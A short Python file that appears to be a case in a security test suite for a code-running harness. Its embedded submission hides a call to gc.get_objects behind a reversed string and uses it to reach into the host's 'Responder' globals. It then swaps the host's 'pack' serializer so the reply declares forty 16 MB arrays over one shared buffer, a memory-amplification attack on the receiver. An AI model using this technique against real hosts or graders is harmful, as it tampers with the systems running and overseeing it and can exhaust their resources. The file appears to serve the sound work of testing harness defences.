from cases import answer

ANSWER = """
def describe(images):
    if hasattr(describe, "called"):
        return {}
    describe.called = True
    import gc
    import json

    names = next(type(o).answer.__globals__ for o in getattr(gc, "stcejbo_teg"[::-1])() if type(o).__name__ == "Responder")
    right, message = names["pack"], names["Message"]
    size = 16 * 2**20
    array = {"array": "numpy", "dtype": "uint8", "shape": [size], "order": [0], "buffer": 0}
    tree = {"dict": [["value", {"list": [array] * 40}]]}
    whole = message(json.dumps(tree), [bytes(size)])

    def pack(value):
        if not isinstance(value, dict) or "value" not in value:
            return right(value)
        names["pack"] = right
        return whole

    names["pack"] = pack
    return {}
"""


def make(solved, outside):
    """A reply of 16 MB that stands for 640: forty arrays share one buffer."""
    return answer(solved, "describe", ANSWER)
